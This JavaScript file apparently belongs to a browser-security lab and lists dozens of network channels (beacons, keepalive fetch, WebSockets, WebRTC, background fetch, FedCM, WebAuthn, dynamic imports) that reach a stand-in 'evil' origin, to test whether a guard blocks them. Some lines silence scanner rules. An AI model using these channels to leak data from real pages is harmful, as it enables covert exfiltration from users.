// What a script calls. Each attack sends to `evil`, an origin of its own, or looks up `name`, and answers "absent" where the
// engine lacks the API. Every member is looked up when the attack runs: the guard is installed by then.
"use strict";

window.attacks ??= {};

/** The address of an origin, without its scheme. */
const addressOf = (evil) => evil.slice("http://".length);

const iceServer = async (server) => {
  if (!window.RTCPeerConnection) return "absent";
  const connection = new RTCPeerConnection({ iceServers: [server] });
  connection.createDataChannel("x");
  await connection.setLocalDescription(await connection.createOffer());
};

const xhr = (evil, async) => {
  const request = new XMLHttpRequest();
  request.open("GET", evil, async);
  request.send();
};

/** A service worker's registration: that which controls the page, or one of our own. */
const registered = async () => {
  const container = navigator.serviceWorker;
  if (container.controller) return container.ready;
  const registration = await container.register("./helper/idle.js", { scope: "./helper/background/" });
  while (!registration.active) await new Promise((resolve) => setTimeout(resolve, 20));
  return registration;
};

/** Public key credentials of a relying party that is not the page's own: the browser asks its host. */
const passkey = async (method, publicKey, more = {}) => {
  if (!window.PublicKeyCredential) return "absent";
  await navigator.credentials[method]({ publicKey: { challenge: new Uint8Array(32), ...publicKey }, ...more });
};

const imported = (type) => (evil) => import(`${evil}/x.${type}`, { with: { type } });

Object.assign(window.attacks, {
  fetch: (evil) => fetch(evil),
  fetch_nocors_post: (evil) => fetch(evil, { mode: "no-cors", method: "POST", body: "x" }),
  // cordon-ignore-next-line scan-beacon-without-allowlist: a way out that the lab tries
  fetch_keepalive: (evil) => fetch(evil, { mode: "no-cors", method: "POST", body: "x", keepalive: true }),
  // cordon-ignore-next-line scan-beacon-without-allowlist: a way out that the lab tries
  fetch_req_keepalive: (evil) => fetch(new Request(evil, { mode: "no-cors", keepalive: true })),
  xhr: (evil) => xhr(evil, true),
  xhr_sync: (evil) => xhr(evil, false),
  // cordon-ignore-next-line scan-beacon-without-allowlist: a way out that the lab tries
  beacon: (evil) => void navigator.sendBeacon(evil, "x"),
  // cordon-ignore-next-line scan-beacon-without-allowlist: a way out that the lab tries
  fetchLater: (evil) => (window.fetchLater ? void fetchLater(evil, { activateAfter: 0 }) : "absent"),
  ws: (evil) => void new WebSocket(evil.replace("http", "ws")),
  ws_redirect: (evil) => {
    const own = new URL(`./helper/redirect?to=${encodeURIComponent(evil)}`, location.href);
    return void new WebSocket(own.href.replace("http", "ws"));
  },
  wsstream: (evil) => (window.WebSocketStream ? new WebSocketStream(evil.replace("http", "ws")).opened : "absent"),
  eventsource: (evil) => void new EventSource(evil),
  webtransport: (evil) => (window.WebTransport ? new WebTransport(`https://${addressOf(evil)}/`).ready : "absent"),

  rtc_dns: (_, name) => iceServer({ urls: `stun:${name}` }),
  rtc_stun_udp: (evil) => iceServer({ urls: `stun:${addressOf(evil)}` }),
  rtc_turn_tcp: (evil) => iceServer({ urls: `turn:${addressOf(evil)}?transport=tcp`, username: "x", credential: "x" }),

  bgfetch: async (evil) => {
    if (!window.BackgroundFetchManager) return "absent";
    const registration = await registered();
    // The first call of a profile can fail.
    for (let tries = 0; ; tries++) {
      try {
        // cordon-ignore-next-line scan-background-fetch-unlisted: a way out that the lab tries
        return void (await registration.backgroundFetch.fetch("x", [evil]));
      } catch (error) {
        if (tries === 8) throw error;
        await new Promise((resolve) => setTimeout(resolve, 200));
      }
    }
  },

  payment: (evil) => {
    if (!window.PaymentRequest) return "absent";
    const total = { label: "x", amount: { currency: "EUR", value: "1" } };
    return new PaymentRequest([{ supportedMethods: `${evil}/pay` }], { total }).canMakePayment();
  },
  fedcm: (evil) => {
    if (!window.IdentityCredential) return "absent";
    const provider = { configURL: `${evil}/fedcm.json`, clientId: "x", nonce: "x", params: { nonce: "x" } };
    return navigator.credentials.get({ identity: { providers: [provider] } });
  },
  webauthn_get: (_, name) => passkey("get", { rpId: name }),
  webauthn_conditional: (_, name) => passkey("get", { rpId: name }, { mediation: "conditional" }),
  webauthn_create: (_, name) =>
    passkey("create", {
      rp: { id: name, name: "x" },
      user: { id: new Uint8Array(1), name: "x", displayName: "x" },
      pubKeyCredParams: [{ type: "public-key", alg: -7 }],
    }),
  webauthn_signal: (_, name) => {
    if (!window.PublicKeyCredential?.signalUnknownCredential) return "absent";
    return PublicKeyCredential.signalUnknownCredential({ rpId: name, credentialId: "AAAA" });
  },
  notification_icon: (evil) => void new Notification("x", { icon: `${evil}/x.png` }),
  mediasession: (evil) => {
    const artwork = [{ src: `${evil}/x.png`, sizes: "96x96", type: "image/png" }];
    navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork });
    navigator.mediaSession.playbackState = "playing";
  },
  fontface_js: (evil) => new FontFace("x", `url(${evil}/x.woff2)`).load(),

  import_dyn: (evil) => import(`${evil}/x.js`),
  import_json: imported("json"),
  import_css: imported("css"),
  import_text: imported("text"),
});
